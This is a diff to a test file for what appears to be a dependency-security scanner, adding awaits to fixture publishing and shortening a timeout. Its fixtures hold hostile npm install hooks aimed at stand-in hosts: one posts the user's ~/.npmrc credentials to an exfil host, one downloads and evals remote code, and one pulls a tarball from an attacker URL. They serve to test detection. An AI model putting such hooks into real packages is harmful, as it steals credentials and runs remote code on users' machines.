@@ -10,7 +10,7 @@ interface Registry {
   url: string;
   npmrc: string;
   cache: string;
-  publish(dir: string): void;
+  publish(dir: string): Promise<void>;
   npm(args: string[], options: { cwd: string }): { status: number; stderr: string };
   stop(): Promise<void>;
 }
@@ -46,28 +46,28 @@ beforeAll(async () => {
   registry = (await startRegistry()) as Registry;
   const publish = (manifest: Record<string, unknown>, files?: Record<string, string>) =>
     registry.publish(writePackage(manifest.name as string, manifest, files));
-  publish({ name: 'dw-native', version: '1.0.0', scripts: { install: 'node-gyp rebuild' } }, { 'binding.gyp': '{ "targets": [] }\n' });
-  publish({
+  await publish({ name: 'dw-native', version: '1.0.0', scripts: { install: 'node-gyp rebuild' } }, { 'binding.gyp': '{ "targets": [] }\n' });
+  await publish({
     name: 'dw-stealer',
     version: '1.0.0',
     scripts: {
       postinstall: `node -e "require('https').request('https://exfil.example.test/',{method:'POST'}).end(require('fs').readFileSync(require('os').homedir()+'/.npmrc'))"`,
     },
   });
-  publish(
+  await publish(
     { name: 'dw-dropper', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
     {
       'install.js':
         "require('https').get('https://payload.example.test/x.js', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });\n",
     },
   );
-  publish({ name: 'dw-phantom', version: '1.0.0', dependencies: { 'dw-payload': 'http://attacker.example.test/dw-payload-1.0.0.tgz' } });
-  publish({ name: 'dw-turned', version: '1.0.0', repository: 'github:dw/turned' });
-  publish(
+  await publish({ name: 'dw-phantom', version: '1.0.0', dependencies: { 'dw-payload': 'http://attacker.example.test/dw-payload-1.0.0.tgz' } });
+  await publish({ name: 'dw-turned', version: '1.0.0', repository: 'github:dw/turned' });
+  await publish(
     { name: 'dw-turned', version: '2.0.0', scripts: { postinstall: 'node collect.js' }, dependencies: { 'dw-native': '^1.0.0' } },
     { 'collect.js': 'console.log(1);\n' },
   );
-  publish({ name: 'dw-plain', version: '1.0.0' });
+  await publish({ name: 'dw-plain', version: '1.0.0' });
 });
 
 afterAll(async () => {
@@ -183,7 +183,7 @@ describe('registry faults: reported per package, never a crash, the rest still c
   });
 
   it('a 500, a route that never answers and a truncated packument each become an unverified finding', async () => {
-    const run = await depwarden(['check', project, '--registry', faultUrl, '--format', 'json', '--timeout', '1500']);
+    const run = await depwarden(['check', project, '--registry', faultUrl, '--format', 'json', '--timeout', '1000']);
     expect(run.status).toBe(0); // unverified is medium: below the default failing severity
     expect(run.stderr).toBe('');
     const messages = Object.fromEntries(findingsOf(run).map((finding) => [finding.package.name, `${finding.severity} ${finding.message}`]));
